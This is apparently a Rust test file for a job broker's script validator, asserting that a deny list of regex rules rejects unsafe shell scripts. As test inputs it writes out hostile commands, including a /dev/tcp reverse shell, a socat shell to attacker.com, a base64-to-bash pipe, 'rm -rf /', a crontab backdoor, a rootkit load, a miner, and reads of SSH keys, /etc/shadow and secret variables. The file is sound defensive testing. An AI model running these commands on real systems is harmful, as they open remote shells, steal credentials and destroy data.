use jobbroker::client::{
    danger_rule_table, safety_verdict, run_outcome, script_precheck, validate_script, ClientError,
};

#[test]
fn test_validate_script_clean() {
    assert!(validate_script("#!/bin/bash\necho 'Hello, World!'\nexit 0\n").is_ok());
}

#[test]
fn test_validate_script_rm_rf() {
    let result = validate_script("#!/bin/bash\nrm -rf /\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_curl() {
    let result = validate_script("#!/bin/bash\ncurl http://evil.com\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_sudo() {
    let result = validate_script("#!/bin/bash\nsudo apt install something\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_reverse_shell() {
    let result = validate_script("#!/bin/bash\nbash -i >& /dev/tcp/10.0.0.1/4242 0>&1\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_env_secrets() {
    let result = validate_script("#!/bin/bash\necho $AWS_SECRET_KEY\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_base64_pipe_to_shell() {
    let result = validate_script("#!/bin/bash\necho dGVzdA== | base64 -d | bash\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_eval() {
    let result = validate_script("#!/bin/bash\neval \"rm -rf /\"\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_python_inline() {
    let result = validate_script("#!/bin/bash\npython3 -c 'import os; os.system(\"bad\")'\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_nsenter() {
    let result = validate_script("#!/bin/bash\nnsenter --target 1 --mount\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_docker() {
    let result = validate_script("#!/bin/bash\ndocker run --privileged -v /:/host alpine\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_socat() {
    let result = validate_script("#!/bin/bash\nsocat TCP:attacker.com:4444 EXEC:bash\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_crontab() {
    let result = validate_script("#!/bin/bash\ncrontab -l | { cat; echo '* * * * * /tmp/backdoor'; } | crontab -\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_mount() {
    let result = validate_script("#!/bin/bash\nmount /dev/sda1 /mnt\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_ssh() {
    let result = validate_script("#!/bin/bash\nssh user@attacker.com 'cat /etc/hosts'\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_xmrig() {
    let result = validate_script("#!/bin/bash\n./xmrig --pool mining.pool:3333\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_disk_fill() {
    let result = validate_script("#!/bin/bash\ndd if=/dev/zero of=/tmp/fill bs=1M count=99999\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_docker_socket() {
    let result = validate_script("#!/bin/bash\ncat /var/run/docker.sock\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn test_validate_script_kernel_module() {
    let result = validate_script("#!/bin/bash\ninsmod /tmp/rootkit.ko\n");
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn clean_script_is_accepted() {
    assert!(validate_script("echo hello; exit 0").is_ok());
}

#[test]
fn refusal_reports_reason_of_first_matching_rule() {
    match validate_script("#!/bin/bash\ncurl evil\n") {
        Err(ClientError::UnsafeScript { reason }) => assert_eq!(reason, "network tool: curl"),
        _ => panic!("expected an unsafe script"),
    }
}

#[test]
fn refusal_reports_earlier_rule_when_several_match() {
    match validate_script("wget x; rm -rf /") {
        Err(ClientError::UnsafeScript { reason }) => assert_eq!(reason, "destructive rm command"),
        _ => panic!("expected an unsafe script"),
    }
}

#[test]
fn every_catalog_entry_compiles() {
    for (pattern, _) in danger_rule_table() {
        assert!(regex::Regex::new(pattern).is_ok(), "{}", pattern);
    }
}

#[test]
fn catalog_covers_each_family() {
    let samples = [
        "mkfs.ext4 /dev/sda",
        "dd if=/dev/urandom of=x",
        "cat /etc/shadow",
        "ls /proc/1",
        "cat ~/.ssh/id_rsa",
        "wget http://x",
        "nc -l 80",
        "telnet host",
        "rsync a b",
        "echo > /dev/udp/1.2.3.4/53",
        "su root",
        "chmod 4755 file",
        "chmod +s file",
        "chown root file",
        "chroot /x",
        "unshare -r",
        "umount /x",
        "kubectl get pods",
        "sysctl -w x=1",
        "modprobe x",
        "rmmod x",
        "iptables -F",
        "nftables list",
        "perl -e 'x'",
        "ruby -e 'x'",
        "cat /etc/cron.d/x",
        "systemctl start x",
        "service nginx start",
        "at now",
        ":(){ :|:& };:",
        "stress --cpu 8",
        "minerd -o x",
        "cpuminer -o x",
        "echo $SECRET",
        "echo $TOKEN",
        "echo $PASSWORD",
        "echo $API_KEY",
        "cat /etc/sudoers",
        "ls /sys/class",
        "ls /root/",
        "scp a b",
        "sftp host",
        "ncat -l 80",
    ];
    for s in samples {
        assert!(
            matches!(validate_script(s), Err(ClientError::UnsafeScript { .. })),
            "{}",
            s
        );
    }
}

#[test]
fn verdict_with_no_firing_rule_is_ok() {
    let n = danger_rule_table().len();
    let outcomes = vec![Some(false); n];
    assert!(safety_verdict(&outcomes).is_ok());
}

#[test]
fn verdict_refuses_on_pattern_that_does_not_compile() {
    let n = danger_rule_table().len();
    let mut outcomes = vec![Some(false); n];
    outcomes[3] = None;
    match safety_verdict(&outcomes) {
        Err(ClientError::UnsafeScript { reason }) => assert_eq!(reason, danger_rule_table()[3].1),
        _ => panic!("expected a refusal"),
    }
}

#[test]
fn verdict_names_first_firing_rule() {
    let n = danger_rule_table().len();
    let mut outcomes = vec![Some(false); n];
    outcomes[20] = Some(true);
    outcomes[40] = Some(true);
    match safety_verdict(&outcomes) {
        Err(ClientError::UnsafeScript { reason }) => assert_eq!(reason, danger_rule_table()[20].1),
        _ => panic!("expected a refusal"),
    }
}

#[test]
fn precheck_without_script_is_missing_script() {
    assert!(matches!(script_precheck(None), Err(ClientError::NoExecScript)));
}

#[test]
fn precheck_refuses_unsafe_script() {
    let result = script_precheck(Some("#!/bin/bash\nrm -rf /\n"));
    assert!(matches!(result, Err(ClientError::UnsafeScript { .. })));
}

#[test]
fn precheck_accepts_safe_script() {
    assert!(script_precheck(Some("#!/bin/bash")).is_ok());
}

#[test]
fn run_outcome_maps_exit() {
    assert!(run_outcome(Some(true)).is_ok());
    assert!(matches!(run_outcome(Some(false)), Err(ClientError::Script)));
    assert!(matches!(run_outcome(None), Err(ClientError::Execution)));
}

#[test]
fn client_error_messages() {
    assert_eq!(ClientError::Execution.message(), "Execution error");
    assert_eq!(ClientError::Script.message(), "Script error");
    assert_eq!(ClientError::NoExecScript.message(), "No execution script found");
    let e = ClientError::UnsafeScript { reason: "network tool: curl".to_string() };
    assert_eq!(e.message(), "Unsafe script detected: network tool: curl");
}
